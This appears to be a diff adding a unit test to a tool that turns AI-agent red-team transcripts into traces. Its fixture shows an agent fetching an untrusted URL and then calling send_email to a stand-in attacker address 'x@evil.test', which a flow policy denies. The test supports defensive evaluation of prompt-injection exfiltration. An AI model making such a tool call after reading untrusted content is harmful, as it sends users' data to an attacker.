@@ -177,4 +177,25 @@ describe("traceFromRedteamTranscript", () => {
     const broken = traceFromRedteamTranscript(`${line(0, plain, [])}\n{"turn":1}\n`);
     expect(broken).toEqual({ ok: false, errors: [{ line: 2, message: "has no caseId" }] });
   });
+
+  it("records a reply's call as denied when the next request answers it with a policy's refusal", () => {
+    const blocked = {
+      role: "tool",
+      tool_call_id: "r1",
+      content: JSON.stringify({
+        content: [{ type: "text", text: "Blocked by policy: send_email comes after fetch_url (rule flows[0])" }],
+        _meta: { "openaims/decision": { outcome: "deny", rule: "flows[0]", reason: "…" } },
+      }),
+    };
+    const text = [
+      line(0, history, [{ id: "r1", name: "send_email", arguments: { to: "x@evil.test" } }]),
+      line(1, [...history, reply, blocked], []),
+    ].join("\n");
+    const result = traceFromRedteamTranscript(text);
+    expect(result.ok && result.entries.map((e) => [e.name, e.untrusted ?? false, e.recorded ?? null])).toEqual([
+      ["fetch_url", false, "allow"],
+      ["fetch_url", true, null],
+      ["send_email", false, "deny"],
+    ]);
+  });
 });
